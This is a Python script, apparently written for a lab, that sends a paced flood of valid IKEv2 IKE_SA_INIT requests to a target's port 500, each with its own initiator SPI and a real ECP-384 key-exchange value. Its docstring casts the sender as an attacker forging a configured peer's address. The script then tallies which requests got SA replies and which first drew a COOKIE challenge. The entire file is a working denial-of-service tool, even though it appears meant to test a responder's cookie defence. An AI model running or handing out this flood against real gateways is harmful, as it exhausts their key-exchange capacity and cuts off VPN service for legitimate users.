#!/usr/bin/python3
"""A flood of valid IKE_SA_INIT requests, each with its own initiator SPI,
as an attacker forging a configured peer's address sends them.

    init_flood.py TARGET SRC SRC_PORT COUNT RATE KE_HEX

Proposal AES-GCM-256 / PRF-HMAC-SHA384 / ECP-384 (the lab's), KE of group 20
with the public value KE_HEX (one valid point, 96 bytes: the responder would
do the key exchange), a 32-byte nonce. Sends COUNT requests at RATE per
second from [SRC]:SRC_PORT to [TARGET]:500, reads the answers meanwhile and
prints one line of figures:

    sent N in S s (R/s); answers: A (SA x, COOKIE y, other z);
    SA answers for requests #i,j,...; first COOKIE for request #k
"""
import os
import socket
import struct
import sys
import time

TARGET, SRC, SPORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
COUNT, RATE, KE = int(sys.argv[4]), float(sys.argv[5]), bytes.fromhex(sys.argv[6])
IKE_SA_INIT, FLAG_I, FLAG_R = 34, 0x08, 0x20
PL_SA, PL_KE, PL_NONCE, PL_NOTIFY = 33, 34, 40, 41
COOKIE = 16390
assert len(KE) == 96


def transform(ttype, tid, keylen=None, last=False):
    attr = struct.pack("!HH", 0x800E, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attr), ttype,
                       0, tid) + attr


def payload(nxt, body):
    return struct.pack("!BBH", nxt, 0, 4 + len(body)) + body


xf = transform(1, 20, 256) + transform(2, 6) + transform(4, 20, last=True)
prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(xf), 1, 1, 0, 3) + xf
BODY = (payload(PL_KE, prop) +
        payload(PL_NONCE, struct.pack("!HH", 20, 0) + KE) +
        payload(0, os.urandom(32)))
LEN = 28 + len(BODY)


def request(i):
    spi = struct.pack("!Q", 0x5EED000000000000 | (i + 1))
    return spi + b"\0" * 8 + struct.pack("!BBBBII", PL_SA, 0x20, IKE_SA_INIT,
                                         FLAG_I, 0, LEN) + BODY


sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
sock.bind((SRC, SPORT))
sock.setblocking(False)
answers = {"sa": [], "cookie": [], "other": 0}


def drain():
    while True:
        try:
            a = sock.recv(65535)
        except BlockingIOError:
            return
        if len(a) < 36 or not a[19] & FLAG_R:
            answers["other"] += 1
            continue
        idx = struct.unpack("!Q", a[:8])[0] & 0xFFFFFFFF
        if a[16] == PL_SA:
            answers["sa"].append(idx)
        elif a[16] == PL_NOTIFY and struct.unpack("!H", a[34:36])[0] == COOKIE:
            answers["cookie"].append(idx)
        else:
            answers["other"] += 1


reqs = [request(i) for i in range(COUNT)]
t0 = time.perf_counter()
for i, r in enumerate(reqs):
    # Paced: request i leaves at t0 + i / RATE, at the latest.
    while time.perf_counter() < t0 + i / RATE:
        drain()
        time.sleep(0.0002)
    try:
        sock.sendto(r, (TARGET, 500))
    except BlockingIOError:
        time.sleep(0.001)
        sock.sendto(r, (TARGET, 500))
elapsed = time.perf_counter() - t0
end = time.perf_counter() + 1.0
while time.perf_counter() < end:
    drain()
    time.sleep(0.01)
sa, ck = sorted(answers["sa"]), sorted(answers["cookie"])
print("sent %d in %.2f s (%.0f/s); answers: %d (SA %d, COOKIE %d, other %d);"
      " SA answers for requests #%s; first COOKIE for request #%s"
      % (COUNT, elapsed, COUNT / elapsed, len(sa) + len(ck) + answers["other"],
         len(sa), len(ck), answers["other"],
         ",".join(str(i) for i in sa[:12]) + ("..." if len(sa) > 12 else ""),
         ck[0] if ck else "-"))
